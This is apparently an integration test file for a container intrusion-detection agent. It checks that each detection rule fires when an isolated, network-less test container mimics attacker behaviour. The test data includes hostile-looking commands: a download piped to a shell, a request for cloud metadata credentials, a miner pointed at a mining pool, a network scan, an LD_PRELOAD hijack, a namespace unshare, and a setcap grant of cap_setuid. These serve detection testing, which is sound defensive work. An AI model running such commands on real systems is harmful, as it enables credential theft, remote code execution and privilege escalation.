package dev.dockward.agent.it;

import static dev.dockward.agent.it.Records.parse;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.dockward.agent.Agent;
import dev.dockward.agent.config.AgentConfig;
import dev.dockward.agent.detect.RuleDetector;
import dev.dockward.agent.detect.RuleSetLoading;
import dev.dockward.agent.schema.RecordSchema;
import dev.dockward.agent.ship.OutputFormat;
import dev.dockward.rules.RuleEngine;
import java.io.PrintWriter;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardCopyOption;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Comparator;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.concurrent.locks.LockSupport;
import java.util.function.Predicate;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;

/**
 * The intrusion rules (intruder-tools.yaml) and the namespace and capability rules, each raised by
 * a real container doing what an intruder does, seen in real time from netlink (the /proc scan is
 * off). Nothing leaves the host: every container has no network but its own loopback, and a
 * download "from the internet" goes to an nc listener on that loopback set as wget's proxy, which
 * never answers, so the downloader waits with its command line readable.
 *
 * <p>The only image here is busybox. The tools are stand-ins, and say so: {@code xmrig}, {@code
 * nmap}, {@code apt-get} and {@code apk} are copies of the host's coreutils {@code yes} (which
 * ignores its name, prints its arguments and blocks once the pipe it writes is full, so it lives
 * until the test removes the container) under those names; the rules judge names and command lines,
 * not what the program does. {@code setcap} is the host's, copied in with its libraries. unshare is
 * busybox's applet.
 */
@Tag("integration")
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class CoverageAttackIT {
  private static final Duration DEADLINE = Duration.ofSeconds(120);
  private static final List<String> NO_NETWORK = List.of("--network=none");

  /** The host's yes, standing in for each tool by name. */
  private static final Path YES = Path.of("/usr/bin/yes");

  private static final String PROXY = "http_proxy=http://127.0.0.1:8080";

  private final DockerCli docker = new DockerCli();
  private final LineCapture stdout = new LineCapture();
  private Agent agent;
  private Path journalDir;
  private ToolImage tools;

  @BeforeAll
  void startAgent() throws Exception {
    journalDir = Files.createTempDirectory("dockward-coverage-it");
    Map<Path, String> standIns = new LinkedHashMap<>();
    for (String tool :
        List.of("/usr/local/bin/xmrig", "/usr/bin/nmap", "/usr/bin/apt-get", "/sbin/apk")) {
      Path copy =
          Files.createDirectories(journalDir.resolve("tools" + tool).getParent())
              .resolve(Path.of(tool).getFileName());
      Files.copy(YES, copy, StandardCopyOption.COPY_ATTRIBUTES);
      standIns.put(copy, tool);
    }
    tools =
        ToolImage.build("h-covrules-tools", List.of("/usr/sbin/setcap", YES.toString()), standIns);
    AgentConfig config =
        AgentConfig.DEFAULT
            .withJournal(
                new AgentConfig.Journal(journalDir.toString(), AgentConfig.RollCycle.HOURLY))
            .withSources(
                new AgentConfig.Sources(
                    new AgentConfig.ProcScan(false, null),
                    null,
                    new AgentConfig.Cgroup(false, null),
                    new AgentConfig.Netlink(true)))
            .withSinks(
                new AgentConfig.Sinks(
                    new AgentConfig.Stdout(AgentConfig.StdoutMode.AUTO, OutputFormat.JSONL, true),
                    null))
            .withMetrics(new AgentConfig.Metrics(true, "127.0.0.1", 0));
    var rules = RuleSetLoading.load(true, List.of(), new PrintWriter(System.err, true));
    assertEquals(List.of(), rules.problems());
    agent = Agent.start(config, new RuleDetector(new RuleEngine(rules.ruleSet())), stdout.stream());
    Process marker = new ProcessBuilder("/bin/sh", "-c", "exec /bin/sleep 0.2").start();
    long markerPid = marker.pid();
    marker.waitFor();
    stdout.await(
        l -> {
          Map<String, Object> r = parse(l);
          return "exec".equals(r.get("type"))
              && markerPid == longOf(map(r.get("process")).get("pid"));
        },
        DEADLINE,
        "netlink exec event of the marker process " + markerPid);
  }

  @AfterEach
  void removeContainers() throws Exception {
    docker.removeAll();
  }

  @AfterAll
  void stopAgent() throws Exception {
    try {
      if (agent != null) {
        agent.close();
      }
      new RecordSchema().assertAllValid(stdout.lines());
    } finally {
      docker.removeAll();
      if (tools != null) {
        tools.remove();
      }
      if (journalDir != null) {
        try (var files = Files.walk(journalDir)) {
          files.sorted(Comparator.reverseOrder()).forEach(p -> p.toFile().delete());
        }
      }
    }
  }

  @SuppressWarnings("unchecked")
  private static Map<String, Object> map(Object o) {
    return o instanceof Map ? (Map<String, Object>) o : Map.of();
  }

  private static long longOf(Object o) {
    return o instanceof Number n ? n.longValue() : -1;
  }

  private static String containerId(Map<String, Object> r) {
    return String.valueOf(map(r.get("container")).getOrDefault("id", ""));
  }

  private static String cmdline(Map<String, Object> r) {
    return String.valueOf(map(r.get("process")).get("cmdline"));
  }

  /** A container, once the agent's inventory knows it. Names start with the branch's name. */
  private String start(String image, String base, List<String> options, String... command)
      throws Exception {
    String name = DockerCli.uniqueName("h-covrules-" + base);
    String id = docker.runImage(name, options, image, command);
    stdout.await(
        l -> {
          Map<String, Object> r = parse(l);
          return "container_start".equals(r.get("type")) && id.equals(containerId(r));
        },
        DEADLINE,
        "container_start of " + name);
    return id;
  }

  /** The first record of {@code type} about container {@code id} that {@code also} accepts. */
  private Map<String, Object> awaitEvent(
      String type, String id, Predicate<Map<String, Object>> also) {
    return parse(
        stdout.await(
            l -> {
              Map<String, Object> r = parse(l);
              return type.equals(r.get("type")) && id.equals(containerId(r)) && also.test(r);
            },
            DEADLINE,
            type + " in container " + id));
  }

  /**
   * The first alert of {@code rule} about container {@code id} that {@code also} accepts; checks
   * the common fields.
   */
  private Map<String, Object> awaitAlert(
      String rule, String id, Predicate<Map<String, Object>> also) {
    String line;
    try {
      line =
          stdout.await(
              l -> {
                Map<String, Object> r = parse(l);
                return "alert".equals(r.get("kind"))
                    && rule.equals(r.get("rule"))
                    && id.equals(containerId(r))
                    && also.test(r);
              },
              DEADLINE,
              rule + " in container " + id);
    } catch (AssertionError e) {
      List<String> seen =
          stdout.lines().stream()
              .map(Records::parse)
              .filter(r -> id.equals(containerId(r)))
              .map(
                  r ->
                      r.get("kind")
                          + "/"
                          + r.getOrDefault("type", r.get("rule"))
                          + "/"
                          + map(r.get("process")).get("name")
                          + "/"
                          + map(r.get("process")).get("cmdline"))
              .toList();
      throw new AssertionError(rule + " not raised in " + id + "; its records: " + seen, e);
    }
    System.err.println(rule + ": " + line);
    Map<String, Object> alert = parse(line);
    assertTrue(
        !String.valueOf(map(alert.get("container")).get("name")).isEmpty(),
        "container named: " + line);
    assertTrue(longOf(map(alert.get("process")).get("pid")) > 0, "process filled: " + line);
    assertTrue(
        ((List<?>) alert.get("tags")).stream().anyMatch(t -> t.toString().startsWith("mitre.T")),
        line);
    return alert;
  }

  /**
   * An nc on the container's loopback port 8080 that accepts and never answers: a proxy that holds
   * a download open.
   */
  private void startSilentProxy(String id) throws Exception {
    docker.docker("exec", "-d", id, "sh", "-c", "/bin/sleep 300 | nc -l -p 8080 > /dev/null");
    long end = System.nanoTime() + DEADLINE.toNanos();
    while (!docker.docker("exec", id, "/bin/busybox", "netstat", "-ltn").contains(":8080 ")) {
      if (System.nanoTime() > end) {
        throw new AssertionError("nc did not listen on 8080 in " + id + " within " + DEADLINE);
      }
      LockSupport.parkNanos(Duration.ofMillis(100).toNanos());
    }
  }

  /**
   * Runs {@code script} in a shell that first waits for /tmp/go, and creates /tmp/go once the agent
   * has read that shell: what the script then does is compared with that read.
   */
  private void runAfterTheShellIsRead(
      String id, List<String> execOptions, String marker, String script) throws Exception {
    List<String> args = new ArrayList<>(List.of("exec", "-d"));
    args.addAll(execOptions);
    args.addAll(
        List.of(
            id,
            "sh",
            "-c",
            "while [ ! -e /tmp/go ]; do /bin/sleep 0.1; done; " + script + " # " + marker));
    docker.docker(args.toArray(String[]::new));
    awaitEvent("exec", id, r -> cmdline(r).contains(marker));
    docker.docker("exec", id, "sh", "-c", ": > /tmp/go");
  }

  @Test
  void wgetOfTheMetadataServiceRaisesCloudMetadataAccess() throws Exception {
    String id = start(DockerCli.IMAGE, "metadata", NO_NETWORK, "sleep", "300");
    startSilentProxy(id);
    docker.docker(
        "exec",
        "-d",
        "-e",
        PROXY,
        id,
        "wget",
        "-qO-",
        "http://169.254.169.254/latest/meta-data/iam/security-credentials/");
    Map<String, Object> alert =
        awaitAlert(
            "cloud_metadata_access_from_container",
            id,
            r -> cmdline(r).contains("security-credentials"));
    assertEquals("wget", map(alert.get("process")).get("program"));
    assertEquals(List.of("169.254.169.254"), map(alert.get("evidence")).get("hosts"));
    assertEquals("high", alert.get("severity"));
  }

  @Test
  void aMinerByItsNameRaisesCryptoMiner() throws Exception {
    String id = start(tools.tag(), "miner", NO_NETWORK, "sleep", "300");
    docker.docker("exec", "-d", id, "sh", "-c", "/usr/local/bin/xmrig | /bin/sleep 300; exit 0");
    Map<String, Object> alert =
        awaitAlert(
            "crypto_miner_in_container",
            id,
            r -> "xmrig".equals(map(r.get("process")).get("program")));
    assertEquals(true, map(alert.get("evidence")).get("by_name"));
    assertEquals("high", alert.get("severity"));
  }

  @Test
  void aPoolUrlAloneRaisesCryptoMiner() throws Exception {
    String id = start(DockerCli.IMAGE, "stratum", NO_NETWORK, "sleep", "300");
    docker.docker(
        "exec",
        id,
        "sh",
        "-c",
        "mkdir -p /opt && printf '#!/bin/sh\\n/bin/sleep 300; exit 0\\n' > /opt/kworker"
            + " && chmod 755 /opt/kworker");
    docker.docker(
        "exec",
        "-d",
        id,
        "/opt/kworker",
        "-o",
        "stratum+tcp://pool.example.net:3333",
        "--donate-level",
        "1");
    Map<String, Object> alert =
        awaitAlert(
            "crypto_miner_in_container",
            id,
            r -> cmdline(r).contains("stratum+tcp://pool.example.net:3333"));
    Map<String, Object> evidence = map(alert.get("evidence"));
    assertEquals(false, evidence.get("by_name"));
    assertEquals(List.of("stratum+tcp://", "--donate-level"), evidence.get("arguments"));
  }

  @Test
  void aDownloadPipedToAShellRaisesDownloadPipedToShell() throws Exception {
    String id = start(DockerCli.IMAGE, "curlsh", NO_NETWORK, "sleep", "300");
    startSilentProxy(id);
    docker.docker(
        "exec",
        "-d",
        "-e",
        PROXY,
        id,
        "sh",
        "-c",
        "wget -qO- http://198.51.100.7/i.sh | sh; exit 0");
    Map<String, Object> alert = awaitAlert("download_piped_to_shell_in_container", id, r -> true);
    assertEquals(
        "sh -c wget -qO- http://198.51.100.7/i.sh | sh; exit 0",
        map(alert.get("evidence")).get("pipeline"));
  }

  @Test
  void aPackageManagerInAnExecSessionRaisesPackageManagerAndSaysSo() throws Exception {
    String id = start(tools.tag(), "aptget", NO_NETWORK, "sleep", "300");
    docker.docker(
        "exec", "-d", id, "sh", "-c", "/usr/bin/apt-get install curl | /bin/sleep 300; exit 0");
    Map<String, Object> alert =
        awaitAlert(
            "package_manager_in_container",
            id,
            r -> cmdline(r).equals("/usr/bin/apt-get install curl"));
    assertEquals(
        "from a docker exec session",
        map(alert.get("evidence")).get("started_by"),
        alert.toString());
    assertEquals("medium", alert.get("severity"));
  }

  @Test
  void aPackageManagerInTheEntrypointRaisesPackageManagerFromTheMainProcess() throws Exception {
    // The entrypoint waits until the test has seen the container started (the inventory then
    // knows its init pid), then installs, as an entrypoint script that installs at start does.
    String id =
        start(
            tools.tag(),
            "apkentry",
            NO_NETWORK,
            "sh",
            "-c",
            "while [ ! -e /tmp/go ]; do /bin/sleep 0.1; done; /sbin/apk add curl | /bin/sleep 300; exit 0");
    docker.docker("exec", id, "sh", "-c", ": > /tmp/go");
    Map<String, Object> alert =
        awaitAlert(
            "package_manager_in_container", id, r -> cmdline(r).equals("/sbin/apk add curl"));
    assertEquals(
        "from the container's main process",
        map(alert.get("evidence")).get("started_by"),
        alert.toString());
  }

  @Test
  void aScannerRaisesReconTool() throws Exception {
    String id = start(tools.tag(), "nmap", NO_NETWORK, "sleep", "300");
    docker.docker(
        "exec", "-d", id, "sh", "-c", "/usr/bin/nmap 10.0.0.0/24 | /bin/sleep 300; exit 0");
    Map<String, Object> alert =
        awaitAlert("recon_tool_in_container", id, r -> cmdline(r).contains("10.0.0.0/24"));
    assertEquals("nmap", map(alert.get("process")).get("program"));
  }

  @Test
  void aPreloadGivenToADockerExecRaisesLoaderHijackAndNothingElseOfTheEnvironmentIsKept()
      throws Exception {
    String id = start(DockerCli.IMAGE, "preload", NO_NETWORK, "sleep", "300");
    // busybox is static, so the loader never acts on it; the rule judges what the process was
    // given.
    docker.docker(
        "exec",
        "-d",
        "-e",
        "LD_PRELOAD=/dev/shm/libhide.so",
        "-e",
        "DOCKWARD_SECRET=s3cr3t-not-kept",
        id,
        "/bin/sleep",
        "299");
    Map<String, Object> alert =
        awaitAlert("loader_hijack_env_in_container", id, r -> cmdline(r).equals("/bin/sleep 299"));
    Map<String, Object> evidence = map(alert.get("evidence"));
    assertEquals(List.of("LD_PRELOAD"), evidence.get("keys"));
    assertEquals(Map.of("LD_PRELOAD", "/dev/shm/libhide.so"), evidence.get("loader_env"));
    Map<String, Object> exec = awaitEvent("exec", id, r -> cmdline(r).equals("/bin/sleep 299"));
    assertEquals(
        Map.of("LD_PRELOAD", "/dev/shm/libhide.so"), map(exec.get("process")).get("loader_env"));
    assertTrue(!exec.toString().contains("s3cr3t"), exec.toString());
    // The test's own docker client on the host names the variable on its command line; the
    // container's process records do not.
    assertTrue(
        stdout.lines().stream()
            .filter(l -> l.contains("s3cr3t-not-kept"))
            .map(Records::parse)
            .noneMatch(
                r ->
                    id.equals(containerId(r))
                        && r.get("process") != null
                        && String.valueOf(map(r.get("process")).get("loader_env"))
                            .contains("s3cr3t")),
        "no other variable of the container's process is recorded");
  }

  @Test
  void aPreloadTheImageSetsIsToldApartAndOneGivenAtDockerRunOrToAnExecIsNot() throws Exception {
    String jemalloc = "/usr/lib/x86_64-linux-gnu/libjemalloc.so.2";
    String tag = DockerCli.uniqueName("h-flows-preload") + ":test";
    // An image whose own Config.Env preloads an allocator, as jemalloc-based images do.
    String source = DockerCli.uniqueName("h-flows-export");
    docker.docker("create", "--name", source, DockerCli.IMAGE, "sh");
    try {
      Process p =
          new ProcessBuilder(
                  "sh",
                  "-c",
                  DockerCli.DOCKER
                      + " export "
                      + source
                      + " | "
                      + DockerCli.DOCKER
                      + " import --change 'ENV LD_PRELOAD="
                      + jemalloc
                      + "' - "
                      + tag)
              .redirectErrorStream(true)
              .start();
      String out = new String(p.getInputStream().readAllBytes());
      assertEquals(0, p.waitFor(), "docker export | docker import: " + out);
    } finally {
      docker.docker("rm", "-f", source);
    }
    try {
      String fromImage = start(tag, "imgpreload", NO_NETWORK, "sleep", "300");
      docker.docker("exec", "-d", fromImage, "/bin/sleep", "297");
      Map<String, Object> inherited =
          awaitEvent("exec", fromImage, r -> cmdline(r).equals("/bin/sleep 297"));
      Map<String, Object> process = map(inherited.get("process"));
      assertEquals(Map.of("LD_PRELOAD", jemalloc), process.get("loader_env"));
      assertEquals(List.of("LD_PRELOAD"), process.get("loader_env_from_image"));

      // Another value given to an exec in the same container.
      docker.docker(
          "exec", "-d", "-e", "LD_PRELOAD=/dev/shm/libhide.so", fromImage, "/bin/sleep", "296");
      Map<String, Object> execAlert =
          awaitAlert(
              "loader_hijack_env_in_container",
              fromImage,
              r -> cmdline(r).equals("/bin/sleep 296"));
      assertEquals(List.of("LD_PRELOAD"), map(execAlert.get("evidence")).get("keys"));
      assertEquals(List.of(), map(execAlert.get("evidence")).get("from_image"));

      // Another value given at docker run -e, over the image's: its main process alerts (and its
      // execs, which inherit the value, are repeats of that alert for the noise control).
      String overridden =
          start(
              tag,
              "runpreload",
              List.of("--network=none", "-e", "LD_PRELOAD=/dev/shm/libhide.so"),
              "sleep",
              "300");
      Map<String, Object> runAlert =
          awaitAlert(
              "loader_hijack_env_in_container", overridden, r -> cmdline(r).equals("sleep 300"));
      assertEquals(
          Map.of("LD_PRELOAD", "/dev/shm/libhide.so"),
          map(runAlert.get("evidence")).get("loader_env"));

      // The image's own preload raised nothing: its exec was judged before the two alerts above.
      List<String> imageValueAlerts =
          stdout.lines().stream()
              .map(Records::parse)
              .filter(
                  r ->
                      "alert".equals(r.get("kind"))
                          && "loader_hijack_env_in_container".equals(r.get("rule"))
                          && fromImage.equals(containerId(r))
                          && !cmdline(r).equals("/bin/sleep 296"))
              .map(r -> cmdline(r))
              .toList();
      assertEquals(List.of(), imageValueAlerts, "alerts on the image's own preload");
    } finally {
      docker.removeAll();
      docker.docker("rmi", tag);
    }
  }

  @Test
  void unshareOfAUserNamespaceRaisesNamespaceUnshare() throws Exception {
    // Docker's default seccomp profile refuses unshare without SYS_ADMIN; an unconfined one is
    // what an exploit's container gets from a careless deployer.
    String id =
        start(
            DockerCli.IMAGE,
            "unshare",
            List.of("--network=none", "--security-opt", "seccomp=unconfined"),
            "sleep",
            "300");
    runAfterTheShellIsRead(
        id,
        List.of(),
        "dockward-unshare",
        "exec /bin/busybox unshare -U -r /bin/busybox sleep 300");
    Map<String, Object> change = awaitEvent("namespace_change", id, r -> true);
    assertEquals(
        List.of("user"), map(change.get("namespace_change")).get("changed"), change.toString());
    Map<String, Object> alert = awaitAlert("namespace_unshare_in_container", id, r -> true);
    Map<String, Object> evidence = map(alert.get("evidence"));
    assertEquals(List.of("user"), evidence.get("created"));
    assertEquals(true, evidence.get("new_user_namespace"));
  }

  @Test
  void aNonRootProgramWithFileCapabilitiesRaisesCapabilityGained() throws Exception {
    String id = start(tools.tag(), "setcap", NO_NETWORK, "sleep", "300");
    // As root in the container: a busybox copy that grants cap_setuid to whoever runs it (and the
    // image's directories opened to uid 1000: it is imported from a 0700 temporary directory).
    docker.docker(
        "exec",
        id,
        "sh",
        "-c",
        "mkdir -p /opt && cp /bin/busybox /opt/busybox-capped"
            + " && /usr/sbin/setcap cap_setuid+ep /opt/busybox-capped && chmod 755 / /bin /opt /opt/busybox-capped /tmp");
    // As uid 1000: the shell is read without capabilities, then becomes the capped busybox.
    runAfterTheShellIsRead(
        id, List.of("-u", "1000"), "dockward-capped", "exec /opt/busybox-capped sleep 300");
    Map<String, Object> alert = awaitAlert("capability_gained_in_container", id, r -> true);
    Map<String, Object> evidence = map(alert.get("evidence"));
    assertEquals(List.of("SETUID"), evidence.get("gained"), alert.toString());
    assertEquals(1000L, longOf(evidence.get("euid")));
  }
}
